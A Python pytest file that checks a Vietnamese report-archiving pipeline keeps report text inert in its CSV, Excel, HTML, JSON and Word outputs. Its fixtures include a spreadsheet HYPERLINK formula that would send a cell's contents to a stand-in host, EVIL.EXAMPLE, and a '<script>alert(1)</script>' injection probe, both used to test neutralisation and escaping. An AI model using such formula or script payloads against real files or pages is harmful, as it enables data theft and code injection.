"""Report text is data: a header line written as a spreadsheet formula never runs (issue 10, item 1);
`<` and `&` reach every output as the report wrote them (issue 11)."""
from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from click.testing import CliRunner

from pipeline.cli import cli

FORMULA = '=HYPERLINK("HTTP://EVIL.EXAMPLE/?X="&B2,"ĐẢNG ỦY XÃ A")'
REPORT = f"""{FORMULA}
Số 12-BC/ĐU
ĐẢNG CỘNG SẢN VIỆT NAM
Xã A, ngày 05 tháng 5 năm 2026
BÁO CÁO
Kết quả công tác tháng 5 năm 2026
I. KẾT QUẢ
Tỷ lệ hộ nghèo còn 5,2%.
"""


@pytest.fixture
def archive(tmp_path):
    report = tmp_path / "r.txt"
    report.write_text(REPORT, encoding="utf-8")
    db = tmp_path / "a.sqlite"
    result = CliRunner().invoke(cli, ["ingest", str(report), "--db", str(db)])
    assert result.exit_code == 0, result.output
    return db


def test_the_workbook_keeps_a_formula_as_text_and_numbers_as_numbers(archive, tmp_path):
    out = tmp_path / "c.xlsx"
    result = CliRunner().invoke(cli, ["compare", "--db", str(archive), "--xlsx", str(out)])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    for sheet in book.worksheets[:2]:
        issuer = sheet.cell(row=2, column=1)
        assert issuer.data_type == "s" and issuer.value.lower().startswith("=hyperlink(")
    by_period = book.worksheets[0].cell(row=2, column=5)
    assert (by_period.value, by_period.data_type) == (5.2, "n")


@pytest.mark.parametrize("args", [["reports"], ["compare"]], ids=["reports", "compare"])
def test_csv_cells_that_would_run_as_formulas_are_neutralised(archive, args):
    result = CliRunner().invoke(cli, [*args, "--db", str(archive), "--csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output.lstrip("\ufeff"))))
    assert rows[0]["issuer"].lower() == "'" + FORMULA.lower()
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values() if value)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Đảng ủy xã A", "Đảng ủy xã A"), (5.2, 5.2), (-3, -3), (None, None),
])
def test_csv_cell(value, expected):
    from pipeline.export import csv_cell

    assert csv_cell(value) == expected


# Markup in a report is text too: `<` and `&` in a header, a title, a heading and the body, and in
# the file's name ("&amp;" shows whether anything escapes twice or unescapes), must reach every
# output as written (issue 11, item 3).
MARKUP_NAME = "bc <b>&amp;.txt"
MARKUP_ISSUER = "Đảng ủy xã Lùng Phình <b>&amp;"
MARKUP_TITLE = "Kết quả công tác <b>tháng 5</b> & phương hướng"
MARKUP_REPORT = f"""ĐẢNG BỘ HUYỆN X
ĐẢNG ỦY XÃ LÙNG PHÌNH <B>&AMP;
Số 12-BC/ĐU
ĐẢNG CỘNG SẢN VIỆT NAM
Xã A, ngày 05 tháng 5 năm 2026
BÁO CÁO
{MARKUP_TITLE}
I. KẾT QUẢ <i>ĐẠT ĐƯỢC</i> & TỒN TẠI
Thực hiện Nghị quyết số 72-NQ/TW ngày 09/9/2025 của Bộ Chính trị, tỷ lệ hộ nghèo còn 5,2% & <script>alert(1)</script>.
"""


@pytest.fixture
def markup_report(tmp_path):
    path = tmp_path / MARKUP_NAME
    path.write_text(MARKUP_REPORT, encoding="utf-8")
    return path


def test_markup_in_a_report_is_text_on_the_parse_html_page(markup_report, tmp_path):
    from lxml import html

    out = tmp_path / "page.html"
    result = CliRunner().invoke(cli, ["parse", str(markup_report), "--html", str(out)])
    assert result.exit_code == 0, result.output
    source = out.read_text(encoding="utf-8")
    assert not any(tag in source for tag in ("<b>", "<i>", "<script"))
    page = html.fromstring(source)
    assert page.findtext(".//title") == MARKUP_TITLE
    shown = page.body.text_content().replace("\u00a0", " ")
    for written in (MARKUP_TITLE, "I. KẾT QUẢ <i>ĐẠT ĐƯỢC</i> & TỒN TẠI", "& <script>alert(1)</script>."):
        assert written in shown
    # Every fact is marked, labelled with its code or kind (and indicator).
    assert [(mark.text.strip(), mark.find("span").text.strip()) for mark in page.iter("mark")] == [
        ("Nghị quyết số 72-NQ/TW ngày 09/9/2025 của Bộ Chính trị", "NQ"), ("5,2%", "percent:poverty_rate")]


def test_markup_in_a_report_is_text_in_every_archive_output(markup_report, tmp_path):
    from lxml import html

    db = tmp_path / "a.sqlite"
    assert CliRunner().invoke(cli, ["ingest", str(markup_report), "--db", str(db)]).exit_code == 0

    def run(*args):
        result = CliRunner().invoke(cli, [*args, "--db", str(db)])
        assert result.exit_code == 0, result.output
        return result.output

    (row,) = json.loads(run("reports", "--json"))
    assert row["issuer"] == MARKUP_ISSUER and row["file"].endswith(MARKUP_NAME)
    (row,) = csv.DictReader(io.StringIO(run("reports", "--csv").lstrip("\ufeff")))
    assert row["issuer"] == MARKUP_ISSUER and row["file"].endswith(MARKUP_NAME)
    shown = json.loads(run("show", str(markup_report), "--json"))["report"]
    assert (shown["issuer"], shown["title"]) == (MARKUP_ISSUER, MARKUP_TITLE)
    (row,) = csv.DictReader(io.StringIO(run("compare", "--csv").lstrip("\ufeff")))
    assert row["issuer"] == MARKUP_ISSUER
    (row,) = json.loads(run("compare", "--json"))
    assert row["issuer"] == MARKUP_ISSUER

    page, book = tmp_path / "c.html", tmp_path / "c.xlsx"
    run("compare", "--html", str(page), "--xlsx", str(book))
    source = page.read_text(encoding="utf-8")
    assert "<b>&amp;" not in source
    document = html.fromstring(source)
    assert document.xpath("//section[@class='indicator']/@data-issuer") == [MARKUP_ISSUER]
    assert MARKUP_ISSUER in document.body.text_content()
    sheets = openpyxl.load_workbook(book).worksheets
    assert [sheet.cell(row=2, column=1).value for sheet in sheets[:2]] == [MARKUP_ISSUER, MARKUP_ISSUER]
    detail = {header.value: value.value for header, value in zip(sheets[1][1], sheets[1][2])}
    assert detail["Tệp"].endswith(MARKUP_NAME)


def test_markup_in_a_draft_reaches_its_word_comment_as_text(tmp_path):
    import docx

    from test_check import draft

    path = draft(tmp_path, "draft.docx", ("tỷ lệ hộ nghèo (25,46%)", "tỷ lệ hộ nghèo <R&D> (125,46%)"))
    out = tmp_path / "annotated.docx"
    result = CliRunner().invoke(cli, ["check", str(path), "--format", "json", "--annotate", str(out)])
    message = "tỷ lệ hộ nghèo <R&D> là tỷ lệ, không thể vượt 100% (125,46%)."
    assert [f["message"] for f in json.loads(result.stdout)[0]["findings"]] == [message]
    document = docx.Document(str(out))
    assert [c.text for c in document.comments] == [f"[error] rate-over-100: {message}"]
    assert any("tỷ lệ hộ nghèo <R&D> (125,46%)" in p.text for p in document.paragraphs)
